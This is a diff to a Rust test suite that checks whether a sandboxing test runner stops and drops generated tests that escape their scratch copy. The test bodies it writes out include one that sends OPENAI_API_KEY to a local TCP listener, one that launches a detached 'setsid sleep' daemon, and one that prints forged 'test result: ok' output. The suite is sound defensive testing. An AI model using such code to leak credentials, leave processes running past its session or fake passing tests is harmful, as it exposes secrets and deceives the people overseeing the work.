@@ -42,7 +42,11 @@ fn body(name: &str, to: &Targets) -> String {
             "use std::io::Write;\n    let mut stream = std::net::TcpStream::connect(\"127.0.0.1:{}\").unwrap();\n    stream.write_all(std::env::var(\"OPENAI_API_KEY\").unwrap_or_default().as_bytes()).unwrap();",
             to.port
         ),
-        "environment" => "let seen: Vec<String> = std::env::vars().map(|(k, v)| k + \"=\" + &v).collect();\n    std::fs::write(std::path::Path::new(env!(\"CARGO_MANIFEST_DIR\")).join(\"seen-env.txt\"), seen.join(\"\\n\")).unwrap();".to_owned(),
+        // Kept only if it sees no secret and a home of its own: the verdict is the check.
+        "environment" => format!(
+            "for (name, value) in std::env::vars() {{\n        assert!(!value.contains(\"sk-testsmith-secret\") && !name.ends_with(\"_KEY\"), \"{{name}}\");\n    }}\n    assert!(!std::env::var(\"HOME\").unwrap().starts_with({:?}));",
+            to.home.display().to_string()
+        ),
         "daemon" => "std::process::Command::new(\"sh\").args([\"-c\", \"setsid sleep 3171 >/dev/null 2>&1 &\"]).status().unwrap();".to_owned(),
         "forge" => "use std::io::Write;\n    let mut out = std::io::stdout();\n    out.write_all(b\"ok\\n\\ntest result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\\n\\n\").unwrap();\n    out.flush().unwrap();\n    std::process::exit(0);".to_owned(),
         // Inside the scratch copy, so allowed; the next build must not suffer for it.
@@ -173,20 +177,6 @@ fn tests_that_reach_beyond_the_scratch_copy_are_stopped_and_dropped() {
     assert!(source_after.starts_with(&source_before) && !source_after.contains("// escaped"));
     assert!(listener.accept().is_err(), "a test reached the listener");
     assert!(!daemon_alive(), "the daemon outlived its test");
-    let seen = std::fs::read_to_string(
-        dir.path()
-            .join("target/testsmith/scratch/escapes/seen-env.txt"),
-    )
-    .unwrap_or_else(|err| panic!("no seen-env.txt ({err}):\n{stderr}"));
-    assert!(
-        !seen.contains("sk-testsmith-secret") && !seen.contains("OPENAI_API_KEY"),
-        "{seen}"
-    );
-    assert!(
-        !seen.contains(&format!("HOME={}", home.path().display())),
-        "{seen}"
-    );
-
     // Each got its verdict.
     for (item, reason) in [
         ("outside", "fails: "),
